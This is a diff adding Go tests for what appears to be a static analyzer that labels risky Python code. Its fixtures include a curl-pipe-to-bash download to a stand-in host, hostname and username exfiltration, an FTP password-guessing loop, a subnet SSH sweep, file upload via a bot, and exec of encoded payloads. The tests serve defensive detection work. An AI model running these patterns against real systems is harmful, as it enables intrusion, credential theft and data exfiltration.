@@ -9,6 +9,23 @@ import (
 	"github.com/bailiff-dev/bailiff/internal/facts/value"
 )
 
+func TestAnOperatorAmongTheWordsOfACommandIsMeantForAShell(t *testing.T) {
+	t.Parallel()
+	for source, want := range map[string]string{
+		"import subprocess\nsubprocess.call(['curl', '-s', 'https://a.test/x', '|', 'bash'])":  "bash curl",
+		"import subprocess\nsubprocess.run(['find', '.', '-exec', 'wc', '{}', ';'])":           "",
+		"import subprocess\nsubprocess.run(['sudo', 'apt', 'update', '&&', 'sudo', 'reboot'])": "apt reboot sudo",
+	} {
+		got := ""
+		if c := Python(source, homePlace); c.Command != nil && c.Command.Supposed != nil {
+			got = strings.Join(c.Command.Supposed.Programs, " ")
+		}
+		if got != want {
+			t.Errorf("%q: supposed programs %q, want %q", source, got, want)
+		}
+	}
+}
+
 func TestFactsOfPrograms(t *testing.T) {
 	t.Parallel()
 	imports := func(c Code) []string { return c.Imports }
@@ -88,6 +105,24 @@ func TestFactsOfPrograms(t *testing.T) {
 		{"import os\nlist(map(os.remove, ['/etc/a']))", writes, "/etc/a"},
 
 		{"import requests\nrequests.get('https://a.test')", features, "network"},
+		{"import requests, platform\nrequests.post('https://a.test', json={'n': platform.node()})", features, "network sends_machine"},
+		{"import requests, getpass\nrequests.get(f'https://a.test/?u={getpass.getuser()}')", features, "network sends_machine"},
+		{"import requests, socket\nrequests.get(f'http://{socket.gethostname()}.a.test')", features, "network sends_machine"},
+		{"import requests, socket\nrequests.get(f'http://{socket.gethostname()}:8080/health')", features, "network"},
+		{"import socket\nname = socket.gethostname()\nprint(name)\nsocket.gethostbyname(name)", features, "network"},
+		{"import socket\nt = open('a').read()\nsocket.gethostbyname(t[:9] + '.a.test')", features, "network sends_machine"},
+		{"import u\nfor line in open('words'):\n    u.FTP('h', user='root', passwd=line.strip())", features, "tries_passwords"},
+		{"import u, csv\nfor row in csv.reader(open('users')):\n    u.create(name=row[0], password=row[1])", features, ""},
+		{"import u\nfor h in ['a', 'b']:\n    u.FTP(h, passwd=open('p').read())", features, ""},
+		{"import socket\ns = socket.socket()\nfor i in range(255):\n    s.connect((f'10.0.0.{i}', 22))", features, "network sweeps_hosts"},
+		{"import socket\ns = socket.socket()\nfor i in range(255):\n    s.connect(('10.0.0.1', i))", features, "network"},
+		{"import u\nu.Bot('t').send_document(document=open('a', 'rb'))", features, "sends_files"},
+		{"import u\nu.Bot('t').send_message('a')\nu.Bot('t').show(open('a'))", features, ""},
+		{"from app.models import U\nU.objects.all().delete()\nU.objects.filter(a=1).delete()", calls,
+			"app.delete app.delete_all app.models.U.objects.all app.models.U.objects.filter"},
+		{"import u\nu.fs('s3').rm('a/b', recursive=True)\nu.fs('s3').ls('a', recursive=True)", calls, "shutil.rmtree u.fs u.ls u.rm"},
+		{"import u\nu.fs('s3').rm('a/b', recursive=False)", calls, "u.fs u.rm"},
+		{"import tarfile\nt = tarfile.open('a.tgz', 'w')\nt.add('b')", reads, "/workspace/b"},
 		{"import base64\nexec(base64.b64decode('cHJpbnQoMSk='))", features, "decode_and_run"},
 		{"import zlib, base64\nexec(zlib.decompress(base64.b64decode('eJwrKMrMK9Ew1AQADhUCsA==')))", features, "decode_and_run"},
 		{"import base64\nprint(base64.b64decode(x))", features, ""},
